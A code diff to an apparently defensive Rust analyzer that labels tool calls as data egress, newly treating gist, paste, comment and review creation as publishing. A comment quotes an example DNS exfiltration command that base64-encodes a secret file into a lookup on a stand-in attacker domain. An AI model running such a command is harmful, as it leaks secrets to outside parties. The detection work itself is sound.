@@ -281,6 +281,18 @@ const EGRESS_VERBS: &[&str] = &[
     "tip",
     "donate",
 ];
+/// Objects whose creation publishes free text to other people (a gist, a paste, a comment on an
+/// issue or pull request, a review): creating or editing one sends content out, so such a call is
+/// egress even though its verb (`create`, `add`, `update`) alone would only say write.
+const PUBLISH_OBJECTS: &[&str] = &[
+    "gist", "gists", "paste", "pastebin", "snippet", "snippets", "comment", "comments", "review",
+    "reviews",
+];
+/// Verbs that make or change such an object (`delete_comment` is not publishing).
+const PUBLISH_MAKING_VERBS: &[&str] = &[
+    "create", "add", "update", "edit", "write", "new", "make", "append", "put", "upsert", "submit",
+    "post", "reply",
+];
 const WRITE_VERBS: &[&str] = &[
     "create",
     "update",
@@ -697,7 +709,22 @@ impl<'a> Analyzer<'a> {
         } else {
             None
         };
-        if self.effect.is_none() {
+        // A write whose object is published text (gist, paste, issue/PR comment, review).
+        let publishes = matches!(name_effect, Some(Effect::Write) | None)
+            && (first == "comment"
+                || (PUBLISH_MAKING_VERBS.contains(&first)
+                    && words
+                        .iter()
+                        .skip(1)
+                        .any(|w| PUBLISH_OBJECTS.contains(&w.as_str()))));
+        let name_effect = if publishes {
+            Some(Effect::Egress)
+        } else {
+            name_effect
+        };
+        let annotated_write =
+            matches!(self.effect, Some((Effect::Write, EffectSource::Annotation)));
+        if self.effect.is_none() || (publishes && annotated_write) {
             if let Some(e) = name_effect {
                 self.set_effect(e, EffectSource::Name);
             }
@@ -1352,9 +1379,15 @@ impl<'a> Analyzer<'a> {
         }
         // a DNS lookup of a name built from command output sends that output to the name's
         // authoritative server (`dig $(cat secret | base64).attacker.example`)
-        if matches!(prog.as_str(), "dig" | "nslookup" | "host" | "drill" | "ping") {
+        if matches!(
+            prog.as_str(),
+            "dig" | "nslookup" | "host" | "drill" | "ping"
+        ) {
             for a in args {
-                if let Some(cut) = a.rfind([')', '`']).filter(|_| a.contains("$(") || a.contains('`')) {
+                if let Some(cut) = a
+                    .rfind([')', '`'])
+                    .filter(|_| a.contains("$(") || a.contains('`'))
+                {
                     self.f.flag(
                         Flag::Egress,
                         "DNS lookup of a name built from command output",
@@ -2588,7 +2621,10 @@ impl<'a> Analyzer<'a> {
                 self.f.flag(Flag::Destructive, format!("gh {a0} delete"));
                 Effect::Write
             }
-            ("gist", "create") | ("release", "upload") => {
+            ("gist", "create" | "edit")
+            | ("release", "upload")
+            | ("issue" | "pr", "comment")
+            | ("pr", "review") => {
                 self.f
                     .flag(Flag::Egress, format!("gh {a0} {a1} publishes content"));
                 Effect::Egress
